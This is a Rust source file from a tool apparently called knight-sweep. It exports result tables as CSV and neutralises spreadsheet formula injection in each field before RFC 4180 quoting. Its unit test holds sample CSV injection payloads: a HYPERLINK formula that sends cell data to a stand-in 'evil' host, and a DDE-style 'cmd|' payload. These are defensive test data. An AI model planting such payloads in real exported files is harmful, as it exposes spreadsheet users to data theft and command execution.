//! CSV: one file for all tables, and the one function every CSV field of
//! knight-sweep goes through (the tables here, `ksweep export`, `ksweep
//! diff`): [`field`], formula-safe and RFC 4180 quoted.

use std::borrow::Cow;

use super::layout::{Table, ROW_HEADER};
use super::TableLayout;

/// One CSV: the group keys, N, then the union of every table's columns;
/// with `intervals`, each column is followed by its denominator and the
/// bounds of its 95 % Wilson interval (`aw+ n`, `aw+ low`, `aw+ high`;
/// with adaptive precision its sequential interval, and `aw+ stop`:
/// `reached`, `cap` or `going`);
/// with `state`, a last column `sweep_state` (see [`crate::Progress::state_label`]).
pub(super) fn csv(tables: &[Table], layout: TableLayout, intervals: bool, state: Option<&str>) -> String {
    let mut columns: Vec<&(usize, String)> = tables.iter().flat_map(|t| &t.columns).collect();
    columns.sort();
    columns.dedup();
    let second = match layout {
        TableLayout::ByDims => "method",
        TableLayout::ByMethods => "dims",
    };
    let adaptive = intervals && tables.iter().any(|t| t.adaptive);
    let mut header: Vec<String> = vec!["moves".into(), second.into(), ROW_HEADER.into()];
    for (_, label) in &columns {
        header.push(label.clone());
        if intervals {
            header.extend([format!("{label} n"), format!("{label} low"), format!("{label} high")]);
        }
        if adaptive {
            header.push(format!("{label} stop"));
        }
    }
    if state.is_some() {
        header.push(SWEEP_STATE.into());
    }
    let mut out = record(header.iter().map(String::as_str));
    for t in tables {
        for (row, (label, cells)) in t.rows.iter().enumerate() {
            let mut fields: Vec<String> = vec![t.keys[0].clone(), t.keys[1].clone(), label.clone()];
            for c in &columns {
                let at = t.columns.iter().position(|tc| tc == *c);
                fields.push(at.map_or_else(String::new, |i| cells[i].clone()));
                if intervals {
                    let stats = at.and_then(|i| t.stats[row][i]);
                    let interval = stats.and_then(|s| s.interval);
                    fields.push(stats.filter(|s| s.n > 0).map_or_else(String::new, |s| s.n.to_string()));
                    fields.push(interval.map_or_else(String::new, |(low, _)| format!("{low:.1}")));
                    fields.push(interval.map_or_else(String::new, |(_, high)| format!("{high:.1}")));
                    if adaptive {
                        fields.push(stats.and_then(|s| s.stop).unwrap_or_default().to_string());
                    }
                }
            }
            fields.extend(state.map(String::from));
            out.push_str(&record(fields.iter().map(String::as_str)));
        }
    }
    out
}

/// The column (and JSON field) naming the sweep's state in data outputs:
/// `done` only when every task has its result.
pub const SWEEP_STATE: &str = "sweep_state";

/// One CSV line, its newline included: the fields quoted as [`field`] does,
/// joined by commas.
pub fn record<'f>(fields: impl IntoIterator<Item = &'f str>) -> String {
    let mut line = fields.into_iter().map(field).collect::<Vec<_>>().join(",");
    line.push('\n');
    line
}

/// One CSV field: made formula-safe (`formula_safe`), then RFC 4180 quoted (only
/// fields with a comma, quote or line break are quoted, their quotes
/// doubled). Every field goes through here, whoever chose its text.
pub fn field(field: &str) -> String {
    let field = formula_safe(field);
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.into_owned()
    }
}

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab and carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A field that spreadsheets show as text: one beginning with a formula
/// character gets a leading `'`, as OWASP advises, so a worker named
/// `=HYPERLINK(...)` or a grid labelled `-2+cmd|..` opens as its text.
/// Numbers and move lists (`-5`, `-2,1 -1,2`, `[-1,3]`: digits, signs,
/// points, commas, brackets and spaces) are data and stay as they are:
/// nothing in them can call a function.
fn formula_safe(field: &str) -> Cow<'_, str> {
    let numeric = |c: char| c.is_ascii_digit() || " ,.+-[]".contains(c);
    let data = field.chars().all(numeric) && field.contains(|c: char| c.is_ascii_digit());
    let inert = !field.starts_with(FORMULA_STARTS) || (field.starts_with(['+', '-']) && data);
    if inert {
        Cow::Borrowed(field)
    } else {
        Cow::Owned(format!("'{field}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_neutralised_and_other_text_kept() {
        let attack = "=HYPERLINK(\"http://evil/\"&A1,\"x\")";
        assert_eq!(formula_safe(attack), format!("'{attack}"));
        for start in ["-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "=1+1", "+A1", "-inf", "-", "+"] {
            assert_eq!(formula_safe(start), format!("'{start}"), "{start:?}");
        }
        for plain in ["worker-1", "1=1", "", "a@b", " =1", "-5", "-0.5", "+3", "-2,1 -1,2", "[-1,3]", "'=x"] {
            assert!(matches!(formula_safe(plain), Cow::Borrowed(t) if t == plain), "{plain:?}");
        }
        // Quoting still applies after: the quotes of the formula are doubled.
        assert_eq!(record([attack]), "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"\n");
        assert_eq!(record(["-2,1 -1,2", "-5", "@x"]), "\"-2,1 -1,2\",-5,'@x\n");
    }
}
